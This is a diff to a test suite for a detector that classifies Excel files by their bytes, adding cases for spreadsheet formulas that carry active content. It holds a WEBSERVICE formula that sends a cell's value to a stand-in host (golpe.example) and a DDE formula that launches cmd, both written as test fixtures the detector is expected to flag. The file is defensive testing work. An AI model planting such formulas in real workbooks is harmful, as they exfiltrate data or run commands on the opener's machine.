@@ -317,6 +317,36 @@ describe('detectFileKind: the type comes from the bytes', () => {
       },
       'active_content',
     ],
+    [
+      'WEBSERVICE in a data validation',
+      {
+        'xl/worksheets/sheet1.xml': sheet('<c r="A1"/>').replace(
+          '</worksheet>',
+          '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>LEN(WEBSERVICE("http://golpe.example/?"&amp;A1))&gt;0</formula1></dataValidation></dataValidations></worksheet>',
+        ),
+      },
+      'active_content',
+    ],
+    [
+      'a DDE call in a conditional format',
+      {
+        'xl/worksheets/sheet1.xml': sheet('<c r="A1"/>').replace(
+          '</worksheet>',
+          `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd|' /C calc'!A0</formula></cfRule></conditionalFormatting></worksheet>`,
+        ),
+      },
+      'active_content',
+    ],
+    [
+      'a list validation and a plain conditional format (fine)',
+      {
+        'xl/worksheets/sheet1.xml': sheet('<c r="A1"/>').replace(
+          '</worksheet>',
+          '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>$A1&gt;100</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>"Sim,Não"</formula1></dataValidation></dataValidations></worksheet>',
+        ),
+      },
+      null,
+    ],
     ['an Excel 4.0 macro sheet', { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }, 'macro'],
     ['an embedded macro-enabled workbook', { 'xl/embeddings/x.xlsb': 'PK' }, 'active_content'],
     [
